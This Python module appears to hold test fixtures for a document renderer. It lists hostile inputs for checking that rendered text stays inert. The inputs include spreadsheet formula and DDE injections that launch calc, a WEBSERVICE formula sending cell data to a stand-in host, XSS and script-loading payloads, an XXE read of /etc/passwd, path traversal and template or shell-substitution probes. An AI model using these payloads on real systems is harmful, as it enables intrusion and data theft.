"""Texts that want to be more than text, and a document that says one of them everywhere.

A rendering shows ``ioc.briefing.plain_text`` of a text, letter by letter, and does nothing else
with it: a formula is not computed, a link not followed, markup not read.
"""

from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from types import MappingProxyType
from typing import Any, TypeVar

Drawn = TypeVar("Drawn")

# What no writer may find in the parts of a file that a program acts upon.
BAIT = "bait.example"

HOSTILE_TEXTS: Mapping[str, str] = MappingProxyType(
    {
        # A spreadsheet would compute, fetch or start something.
        "formula": "=1+1",
        "formula link": f'=HYPERLINK("http://{BAIT}/","Tỉnh")',
        "formula fetch": f'=WEBSERVICE("http://{BAIT}/?q="&A1)',
        "formula array": '{=SUM(A1:A9*"1")}',
        "formula at": "@SUM(1+9)*cmd|' /C calc'!A0",
        "formula plus": "+cmd|' /C calc'!A0",
        "formula minus": "-2+3+cmd|' /C calc'!A0",
        "formula DDE": '=DDE("cmd","/C calc","x")',
        "formula full width": "＝1+1",
        "formula after tab": "\t=1+1",
        "formula after CR": "\r=1+1",
        "formula after LF": "\n=1+1",
        "formula after NUL": "\x00=1+1",
        "formula after space": " =1+1",
        "formula quoted": "'=1+1",
        "field of a document": f'{{ INCLUDETEXT "http://{BAIT}/" }}',
        "field of a letter": f'{{ HYPERLINK "http://{BAIT}/" }}',
        # A page or a drawing would run or load something.
        "script": f"<script src=//{BAIT}/x.js>alert(1)</script>",
        "image": f'<img src="http://{BAIT}/x.png" onerror=alert(1)>',
        "svg": f'<svg onload=alert(1)><image href="http://{BAIT}/x"/></svg>',
        "style": f"</style><style>@import url(http://{BAIT}/x.css);</style>",
        "attribute": f'" onmouseover="alert(1)" data-x="http://{BAIT}/',
        "apostrophe": "' onclick='alert(1)",
        "javascript": "javascript:alert(document.domain)",
        "data address": "data:text/html,<script>alert(1)</script>",
        "web address": f"http://{BAIT}/",
        "mail address": f"mailto:nobody@{BAIT}",
        "file address": "file:///etc/passwd",
        "share address": f"\\\\{BAIT}\\share\\x",
        "sheet address": "internal:'Nguồn'!A1",
        "outside address": "external:c:\\temp\\x.xlsx",
        # Somebody's XML would end early.
        "end of a text in Word": "Tỉnh</w:t></w:r><w:r><w:t>khác",
        "end of a text on a slide": "Tỉnh</a:t></a:r><a:r><a:t>khác",
        "end of a cell": "Tỉnh</t></is></c><c r='A9'><f>1+1</f></c>",
        "end of a section": "]]>",
        "comment": "<!-- -->",
        "entity": "&xxe; &lt;b&gt; &#0; &amp;amp;",
        "document type": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
        "processing": "<?xml version='1.0'?>",
        # Somebody's template would fill it.
        "braces": "{x} {0} {} {document.face.__class__}",
        "percent": "%s %d %(x)s %n %",
        "jinja": "{{ 7*7 }} {% for x in y %}",
        "dollar": "${7*7} #{7*7} $(id) `id`",
        "number format": '0.00"x";[Red]-0;@',
        "page field": "&P &N &D &[File] &&",
        "escape of a spreadsheet": "_x0041_ _x000D_",
        # It would be a name where names are short, unique or places.
        "sheet name": "[x]:*?/\\'Nguồn'!A1",
        "reserved sheet name": "History",
        "place above": "../../../etc/passwd",
        "place above on Windows": "..\\..\\CON",
        "device": "CON",
        "defined name": "_xlnm.Print_Area",
        # It would be read as something else than what is there.
        "turned": "Tỉnh \u202ernuộc gnúđ\u202c",
        "isolated": "\u2067Tỉnh\u2069 \u200f5",
        "decomposed": "Qua\u0309ng Nam \u0110o\u0302\u0323t",
        "zero width": "Qu\u200bảng\u200d \ufeffNam",
        "emoji": "Tỉnh 👩‍👩‍👧‍👦🇻🇳 📈",
        "beyond the plane": "𠀀𝟙",
        "digits of others": "１２ ١٢ ²",
        "number": "1.234,50",
        "number for a machine": "1e5",
        "date": "03/04/2024",
        "truth": "TRUE",
        "fault": "#REF!",
        # No file of XML can hold it.
        "control characters": "Tỉnh\x01\x08\x0b\x0c\x1b[31m\x1f\x7f\x9b Quảng Nam",
        "not a character": "Tỉnh\ufffe\uffff",
        "line breaks": "một\r\nhai\nba\u2028bốn\x85năm",
        # There is too much of it, or nothing.
        "ten thousand": "Ủy ban nhân dân " * 640,
        "ten thousand without a space": "Ủ" * 10_000,
        "combining": "a" + "\u0323" * 200,
        "space": " ",
        "unbroken space": "\u00a0",
        "nothing": "",
    }
)

# Names a program looks things up by: a document that repeats one is no document.
_UNIQUE = frozenset({"key"})
# Closed choices, and what is no text.
_CHOICES = frozenset({"kind", "weight", "state", "role", "form", "language"})


def said_everywhere(drawn: Drawn, text: str) -> Drawn:
    """The drawn record with ``text`` in every free text of it and of what it is made of.

    Keys stay different from each other: their number is written behind the text.
    """
    return _Speaker(text).said(drawn)


class _Speaker:
    def __init__(self, text: str) -> None:
        self._text = text
        self._keys = 0

    def said(self, drawn: Any) -> Any:
        if isinstance(drawn, str):
            return self._text
        if isinstance(drawn, tuple):
            return tuple(self.said(one) for one in drawn)
        if not is_dataclass(drawn) or isinstance(drawn, type):
            return drawn
        changes = {
            field.name: self._field(field.name, getattr(drawn, field.name))
            for field in fields(drawn)
            if field.name not in _CHOICES
        }
        return replace(drawn, **changes)

    def _field(self, name: str, value: object) -> Any:
        if name in _UNIQUE:
            self._keys += 1
            return f"{self._text}{self._keys}"
        return self.said(value)
